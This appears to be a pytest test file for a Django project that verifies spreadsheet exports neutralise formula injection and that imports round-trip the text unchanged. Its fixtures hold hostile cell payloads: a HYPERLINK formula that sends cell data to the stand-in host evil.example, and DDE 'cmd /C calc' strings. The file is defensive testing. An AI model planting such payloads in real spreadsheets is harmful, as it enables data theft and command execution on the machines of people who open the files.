"""Audit finding 2: every export writes formula-like text as inert text, and the import reads it back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from notifications.digest import Scope, portfolio_workbook
from projects import roles
from projects.models import CoreProject, Milestone
from projects.spreadsheets.columns import MILESTONES, PROJECTS
from projects.spreadsheets.files import portfolio_export, portfolio_import
from projects.spreadsheets.safety import formula_like, neutralise, restore
from tests.factories import CoreProjectFactory, MilestoneFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile_project(owner):
    project = CoreProjectFactory(
        name="+cmd|' /C calc'!A0", government_programme="@SUM(1+1)*cmd|' /C calc'!A0", managers=[owner]
    )
    MilestoneFactory(project=project, title=HYPERLINK, responsible_agency="-2+3+cmd|' /C calc'!A0", notes="=1+1")
    return project


@pytest.fixture
def reader_client(client):
    client.force_login(UserFactory(username="reader", role=roles.VIEWER))
    return client


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_inert(content: bytes) -> None:
    cells = csv_cells(content)
    assert not [cell for cell in cells if formula_like(cell)]
    assert "'" + HYPERLINK in cells


def assert_xlsx_inert(content: bytes) -> None:
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hyperlink = [cell for cell in cells if cell.value == HYPERLINK]
    assert hyperlink and all(cell.data_type == "s" and cell.quotePrefix for cell in hyperlink)


@pytest.mark.parametrize("page", ["projects:milestones", "projects:portfolio"])
def test_the_tables_csv_and_xlsx_exports_write_formulas_as_text(reader_client, hostile_project, page):
    # Both formats are streamed (projects/table_exports.py).
    csv_content = b"".join(reader_client.get(reverse(page), {"_export": "csv"}).streaming_content)
    cells = csv_cells(csv_content)
    assert not [cell for cell in cells if formula_like(cell)]
    assert "'+cmd|' /C calc'!A0" in cells
    xlsx_content = b"".join(reader_client.get(reverse(page), {"_export": "xlsx"}).streaming_content)
    assert not [cell.coordinate for cell in xlsx_cells(xlsx_content) if cell.data_type == "f"]
    if page == "projects:milestones":
        assert_csv_inert(csv_content)
        assert_xlsx_inert(xlsx_content)


def test_the_admin_csv_and_xlsx_exports_write_formulas_as_text(client, superuser, hostile_project):
    client.force_login(superuser)
    url = reverse("admin:projects_milestone_export")
    assert_xlsx_inert(client.post(url, {"format": "0", "resource": "0"}).getvalue())
    assert_csv_inert(client.post(url, {"format": "1", "resource": "0"}).getvalue())


def test_export_portfolio_writes_formulas_as_text_in_both_formats(hostile_project, tmp_path):
    plan = hostile_project.plan.code
    call_command("export_portfolio", str(tmp_path / "all.xlsx"), "--plan", plan, stdout=io.StringIO())
    assert_xlsx_inert((tmp_path / "all.xlsx").read_bytes())
    call_command(
        "export_portfolio", str(tmp_path / "m.csv"), "--plan", plan, "--kind", "milestones", stdout=io.StringIO()
    )
    assert_csv_inert((tmp_path / "m.csv").read_bytes())


def test_the_digest_attachment_writes_formulas_as_text(hostile_project):
    content = portfolio_workbook(plan=hostile_project.plan, scope=Scope("plan"), today=dt.date(2026, 11, 30))
    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [cell.quotePrefix for cell in cells if cell.value == "+cmd|' /C calc'!A0"] == [True]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_import_reads_exported_formula_like_text_back_unchanged(hostile_project, file_format):
    plan = hostile_project.plan
    versions = list(Milestone.objects.values_list("pk", "version"))
    kinds_list = [(PROJECTS,), (MILESTONES,)] if file_format == "csv" else [(PROJECTS, MILESTONES)]
    for kinds in kinds_list:
        content = portfolio_export(plan=plan, file_format=file_format, kinds=kinds)
        report = portfolio_import(content=content, plan=plan)
        assert not report.refused, [str(problem) for problem in report.problems]
        assert [(sheet.created, sheet.updated) for sheet in report.sheets] == [(0, 0)] * len(kinds)
    assert list(Milestone.objects.values_list("pk", "version")) == versions
    assert CoreProject.objects.get(pk=hostile_project.pk).name == "+cmd|' /C calc'!A0"
    assert Milestone.objects.get(project=hostile_project).title == HYPERLINK


@pytest.mark.parametrize("text", [*HOSTILE, "'=already quoted", "''", "'", "\t=1", "\r=1", "plain", ""])
def test_neutralise_and_restore_are_inverse_and_numbers_stay_numbers(text):
    assert restore(neutralise(text)) == text
    assert not formula_like(neutralise(text))
    for number in ["-12.5", "-1,234", "+3", "-0.00000001", "1e-3"]:
        assert neutralise(number) == number
    assert neutralise(-12.5) == -12.5
